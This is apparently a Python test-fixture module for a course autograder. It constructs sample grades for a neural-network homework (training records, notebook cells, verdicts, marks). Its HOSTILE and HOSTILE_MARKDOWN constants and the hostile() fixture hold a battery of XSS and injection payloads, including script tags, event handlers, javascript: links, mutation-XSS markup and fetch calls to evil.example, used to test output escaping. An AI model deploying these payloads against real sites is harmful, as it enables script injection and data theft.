"""Grades made by hand: every outcome, hostile text, two files, trainings with curves, unreadable, marked, faulty."""

from __future__ import annotations

import base64
import struct
import zlib
from dataclasses import replace
from pathlib import Path

import numpy as np

from grader.assignment import Assignment, Claim, Limits, Problem
from grader.observed import Pass, Training
from grader.records import (
    CellError,
    CellRun,
    FileRun,
    Finding,
    Grade,
    Mark,
    Outcome,
    Output,
    RunRecord,
    Submission,
    SubmittedFile,
    Usage,
    Verdict,
    WrittenAnswer,
)

MACHINE_PATH = Path("/srv/secret-course/inbox")
STAFF = "the reference says 0.25 exactly"
STOLEN = 'window.stolen = true; fetch("http://evil.example/")'
HOSTILE = (
    f'</title></style></pre></textarea>--><script>{STOLEN}</script>"\'><img src=x onerror="{STOLEN}">'
    f"<svg/onload='{STOLEN}'>{{{{ 7*191 }}}}{{% raw %}} \u202ecod.exe\u2066 \x00\x1b[31m \ud800 &amp; <b>bold"
)
"""Everything a text can try, in one."""


def claim(key: str, sentence: str, points: float, by: str = "check") -> Claim:
    return Claim(key, sentence, points, by, expects="" if by == "item" else "something")


ASSIGNMENT = Assignment(
    id="hw3",
    title="Homework 3: a small network, and why it trains",
    total=16,
    limits=Limits(),
    rubric=MACHINE_PATH / "rubrics/hw3.toml",
    reference=MACHINE_PATH / "reference/hw3.py",
    problems=(
        Problem(
            "1",
            "Fit a curve with a three-layer network",
            (
                claim(
                    "1.1", "The network has layers 1-64-64-1, a sigmoid after each hidden layer and none at the end", 2
                ),
                claim(
                    "1.2", "Before the first step every weight is a standard normal draw and every bias is 0.03", 1.5
                ),
                claim("1.3", "Training is plain SGD with step size 0.1 and fresh gradients at every step", 2),
                claim("1.4", "The trained network follows f* on [-2, 2]", 1.5),
                claim("1.5", "A plot shows the trained network as a function of x", 1),
            ),
        ),
        Problem(
            "3a",
            "Cross entropy is positive and finite",
            (
                claim("3a.1", "ce_loss(f, y) is the cross entropy of the logits f at the label y", 1),
                claim("3a.2", "ce_loss is finite and never negative, even for logits of a size of ten thousand", 1),
                claim(
                    "3a.3", "Shows that the softmax probability lies strictly between 0 and 1, and concludes", 2, "item"
                ),
            ),
            answer="q3a",
        ),
        Problem(
            "5b",
            "Softplus has a Lipschitz derivative",
            (
                claim("5b.1", "softplus(z) is log(1 + exp(z)), without overflow", 1),
                claim("5b.2", "softplus_lipschitz is the smallest Lipschitz constant of that derivative", 1),
                claim("5b.3", "Bounds the second derivative and uses the mean value theorem", 2, "item"),
            ),
            answer="q5b",
        ),
    ),
)

PASSED = Verdict(Outcome.PASSED, 1.0, "As asked.")
PENDING = Verdict(Outcome.PENDING, 0.0, "A person will mark this.")
FAILED = Verdict(
    Outcome.FAILED,
    0.0,
    "The step size `lr` was 0.001 for all 4000 steps.",
    "Look at what you pass as lr: alpha = 0.1 is defined, and not used.",
    remarks=("The order of the points was the same in every epoch.",),
    mistake="small_step",
    staff=STAFF,
)
PARTIAL = Verdict(
    Outcome.PARTIAL,
    0.5,
    "softplus(1000) is inf: exp overflows before the logarithm is taken.",
    "Rewrite log(1 + exp(z)) as max(z, 0) + log1p(exp(-|z|)).",
    mistake="overflows",
)
MISSING = Verdict(
    Outcome.MISSING,
    0.0,
    "No number softplus_lipschitz was found; softplus and softplus_derivative are there.",
    "Assign the number to a variable of that name.",
)
BLOCKED = Verdict(Outcome.BLOCKED, 0.0, "ce_loss has to be right first.")
FAULT = Verdict(
    Outcome.FAULT, 0.0, "The grader failed on this check.", staff="ZeroDivisionError in grader/expect/fit.py"
)

ANSWER = r"""
**Proof.** By definition $p_y = \frac{e^{f_y}}{\sum_{j=1}^k e^{f_j}}$, and every term is positive, so

$$0 < p_y < 1 \quad\text{for } k \ge 2.$$

Hence $\ell(f, y) = -\log p_y > 0$. It is *finite* since $p_y > 0$.

\begin{align}
\ell(f, y) &= \log \sum_j e^{f_j} - f_y \\
           &= \log\Bigl(1 + \sum_{j \ne y} e^{f_j - f_y}\Bigr)
\end{align}

1. a broken one: $\frac{1}{$
2. a [link](https://example.org/), and $\mathbb{R}^{d}$

| a | b |
|---|---|
| 1 | `x < 2` |
"""


def verdicts(**chosen: Verdict) -> dict[str, Verdict]:
    """Return a verdict for every claim: items pend, checks pass, but for those chosen (`c1_1` is claim 1.1)."""
    default = {one.key: PENDING if one.by == "item" else PASSED for _, one in ASSIGNMENT.claims}
    return {**default, **{key[1:].replace("_", "."): verdict for key, verdict in chosen.items()}}


def findings(chosen: dict[str, Verdict]) -> tuple[Finding, ...]:
    return tuple(
        Finding(problem.id, one.sentence, one.key, one.by, one.points, chosen[one.key])
        for problem, one in ASSIGNMENT.claims
    )


def truth(x: np.ndarray) -> np.ndarray:
    return (x - 2) * np.cos(4 * x)


def training(seed: int = 0, *, steps: int = 4000, noise: float = 0.0, scale: float = 1.0) -> Training:
    """Return a made-up record of 512 points in batches of 128 under the mean squared loss, times `scale`."""
    rng = np.random.default_rng(seed)
    x = rng.standard_normal(512)
    y = truth(x) + noise * rng.standard_normal(512)
    at = np.arange(0, steps, max(1, steps // 500))
    losses = 6.0 * np.exp(-at / (0.12 * steps)) * np.exp(0.15 * rng.standard_normal(at.size)) + 0.02
    return Training(
        key="t0",
        model="m0",
        kind="MLP",
        names=("l1.weight", "l1.bias", "l2.weight"),
        initial=(rng.standard_normal((64, 1)), np.full(64, 0.03), rng.standard_normal((64, 64))),
        final=(),
        rule="SGD",
        settings=((0, {"lr": 0.1}),),
        steps=steps,
        batch_sizes=np.full(steps, 128),
        losses=losses,
        loss_steps=at,
        passes=tuple(_passes(x, y, steps, scale)),
        row_ids=(),
        rows=x[:, None],
        fingerprints=np.zeros(steps, dtype=np.uint64),
    )


def _passes(x: np.ndarray, y: np.ndarray, steps: int, scale: float) -> list[Pass]:
    batches = [slice(start, start + 128) for start in range(0, 512, 128)]
    made = []
    for step, rows in [*enumerate(batches), *((steps - 4 + number, rows) for number, rows in enumerate(batches))]:
        off = 1.0 if step < 4 else 0.05
        f = (y[rows] * (1 - off) + off * np.sin(x[rows]))[:, None]
        residual = f - y[rows][:, None]
        loss = scale * float((residual**2).mean())
        made.append(Pass(step, x[rows][:, None], f, scale * 2 * residual / 128, loss, clean=True, rate=0.1))
    return made


def png(red: int = 40) -> str:
    """Return a small picture in base64."""
    row = b"\x00" + bytes((red, 110, 200)) * 160

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = struct.pack(">IIBBBBB", 160, 60, 8, 2, 0, 0, 0)
    data = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(row * 60)) + chunk(b"IEND", b"")
    return base64.b64encode(data).decode()


TABLE = (
    "<table><thead><tr><th>epoch</th><th>loss</th></tr></thead><tbody><tr><td>1</td><td>0.5</td></tr></tbody></table>"
)


def cells() -> tuple[CellRun, ...]:
    return (
        CellRun(1, "text", "# Homework 3\nWe minimise $\\frac{1}{N}\\sum_i (f(x_i) - y_i)^2$."),
        CellRun(2, "code", "import torch\nprint('ready')", (Output("text", "ready\n"),), cpu=0.1),
        CellRun(3, "code", "plt.plot(x, y)\nplt.show()", (Output("png", png()), Output("html", TABLE)), cpu=0.4),
        CellRun(
            4,
            "code",
            "np.product([1, 2])",
            (Output("error", "AttributeError: module 'numpy' has no attribute 'product'"),),
            CellError(
                "AttributeError",
                "module 'numpy' has no attribute 'product'",
                "Cell 4, line 1\n----> 1 np.product([1, 2])\nAttributeError: module 'numpy' has no attribute 'product'",
            ),
        ),
        CellRun(
            5,
            "code",
            "import tensorflow",
            error=CellError("ModuleNotFoundError", "No module named 'tensorflow'", blame="environment"),
        ),
    )


def submission(student: str, name: str, *names: str) -> Submission:
    files = tuple(SubmittedFile(MACHINE_PATH / student / one, one) for one in names or ("hw3.ipynb",))
    return Submission(student, name, files, submitted_at="2025-03-04T21:10:00+01:00")


VERSIONS = {"python": "3.11.2", "numpy": "2.1.0", "torch": "2.5.0", "grader": "0.1.0"}
USAGE = Usage(cpu=11.4, cpu_student=11.1, wall=12.9, memory=312_000_000)


def record(student: str, *files: FileRun, fault: str = "") -> RunRecord:
    return RunRecord(student, "d1" * 16, files, "userns", ("namespaces", "seccomp"), fault=fault, versions=VERSIONS)


def file_run(name: str = "hw3.ipynb", status: str = "finished", reason: str = "", **more: object) -> FileRun:
    made = FileRun(name, cells(), status, reason, USAGE)
    return replace(made, **more)  # type: ignore[arg-type]


def grade(student: str, name: str, chosen: dict[str, Verdict], *files: FileRun, **more: object) -> Grade:
    files = files or (file_run(cells=(CellRun(1, "code", "x = 1"),)),)
    made = Grade(
        submission(student, name, *(one.name for one in files)), record(student, *files), findings(chosen), {}, (), 16.0
    )
    return replace(made, **more)  # type: ignore[arg-type]


def ada() -> Grade:
    """Nearly all right, one of everything else."""
    chosen = verdicts(c1_3=FAILED, c5b_1=PARTIAL, c5b_2=MISSING, c3a_2=BLOCKED)
    run = file_run(
        trainings=(training(),),
        events=("A connection to the internet was refused.",),
        shims=("plt.show() keeps the figure instead of opening a window.",),
    )
    answers = {"3a": WrittenAnswer("3a", ANSWER, "by the heading 'Problem 3 (a)'", "hw3.ipynb")}
    made = grade("ada", "Ada Löwe", chosen, run, answers=answers)
    return replace(made, submission=replace(made.submission, remarks=("notes.pdf is not a notebook or a script.",)))


def marked() -> Grade:
    """Two files, two trainings, everything marked by a person."""
    praise = Mark("bo", "3a.3", 2.0, "Prof. Noether", "Clear and complete.", "2025-03-06T10:00:00Z")
    half = Mark(
        "bo",
        "5b.3",
        1.0,
        "Prof. Noether",
        "The bound is there; the mean value theorem is not named.",
        "2025-03-06T10:01:00Z",
    )
    chosen = verdicts(
        c3a_3=Verdict(Outcome.PASSED, 1.0, f"Marked by {praise.author}: {praise.reason}"),
        c5b_3=Verdict(Outcome.PARTIAL, 0.5, f"Marked by {half.author}: {half.reason}"),
    )
    files = (
        file_run("P1.py", trainings=(training(1, scale=0.5),)),
        file_run("P2.py", trainings=(training(2, noise=0.5, steps=3000),), cells=()),
    )
    return grade("bo", "Bo Chen", chosen, *files, marks=(praise, half), replayed=True)


def unreadable() -> Grade:
    nothing = {one.key: MISSING if one.by == "check" else PENDING for _, one in ASSIGNMENT.claims}
    made = grade("cy", "Cy Twist", nothing)
    return replace(made, record=None, submission=replace(made.submission, unreadable="hw3.ipynb is empty.", files=()))


def faulty() -> Grade:
    return grade("di", "Di Ode", verdicts(c1_4=FAULT))


def died() -> Grade:
    run = file_run(status="died", reason="The kernel ended in cell 4 (signal 11).", cells=cells()[:3])
    stopped = CellRun(1, "code", "while True: pass", stopped="stopped after 600 s of computing")
    return grade(
        "ed",
        "Ed Died",
        verdicts(c1_3=replace(FAILED, found="The step size was 0.002 for all 4000 steps.")),
        run,
        file_run("b.py", "stopped", "A limit ended it.", cells=(stopped,)),
    )


def hostile() -> Grade:
    """Every text that a student has a hand in tries everything."""
    verdict = Verdict(Outcome.FAILED, 0.0, HOSTILE, HOSTILE, (HOSTILE,), HOSTILE, HOSTILE)
    outputs = (
        *(Output(kind, HOSTILE) for kind in ("text", "html", "png", "svg", "error", "note", "unheard of")),
        Output("svg", f'<svg xmlns="http://www.w3.org/2000/svg"><script>{STOLEN}</script></svg>'),
    )
    bad = CellRun(1, "code", HOSTILE, outputs, CellError(HOSTILE, HOSTILE, HOSTILE, HOSTILE), HOSTILE)
    elsewhere = CellRun(2, "text", HOSTILE + "\n\n" + HOSTILE_MARKDOWN, tags=(HOSTILE,))
    made_up = replace(training(3), rule=HOSTILE, kind=HOSTILE, key=HOSTILE, names=(HOSTILE,))
    run = FileRun(HOSTILE, (bad, elsewhere), "died", HOSTILE, USAGE, (HOSTILE,), (HOSTILE,), (made_up,))
    made = Grade(
        Submission(
            "eve",
            HOSTILE,
            (SubmittedFile(MACHINE_PATH / "x", HOSTILE),),
            (SubmittedFile(MACHINE_PATH / "y", HOSTILE),),
            (HOSTILE,),
            "",
            HOSTILE,
            (HOSTILE, HOSTILE),
        ),
        replace(record("eve", run), versions={HOSTILE: HOSTILE}),
        findings(dict.fromkeys(verdicts(), verdict)),
        {"3a": WrittenAnswer("3a", HOSTILE + "\n\n" + HOSTILE_MARKDOWN, HOSTILE, HOSTILE)},
        (Mark("eve", "1.1", 1.0, HOSTILE, HOSTILE, HOSTILE),),
        16.0,
    )
    return replace(made, submission=replace(made.submission, unreadable=HOSTILE))


HOSTILE_MARKDOWN = rf"""
[a](javascript:{STOLEN}) [b](data:text/html,<script>{STOLEN}</script>) <a href="javascript:{STOLEN}">c</a>
![d](http://evil.example/x.png) <img src="http://evil.example/y.png"> ![e](data:image/svg+xml;base64,PHN2Zz4=)
$\text{{<img src=x onerror="{STOLEN}">}}$ $\href{{javascript:{STOLEN}}}{{x}}$
$\text{{</math><script>{STOLEN}</script>}}$
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={STOLEN}&gt;"></table>
<iframe srcdoc="<script>parent.stolen=true</script>"></iframe><form action="http://evil.example"><button>go</button></form>
<link rel=stylesheet href="http://evil.example/z.css"><style>@import "http://evil.example/z.css";</style>
<details open ontoggle="{STOLEN}"><summary>f</summary></details><p style="background:url(http://evil.example/b)">g</p>
<base href="http://evil.example/"><meta http-equiv="refresh" content="0;url=http://evil.example/"><object data="http://evil.example/"></object>
"""


def everybody() -> list[Grade]:
    return [faulty(), ada(), died(), marked(), unreadable(), hostile()]
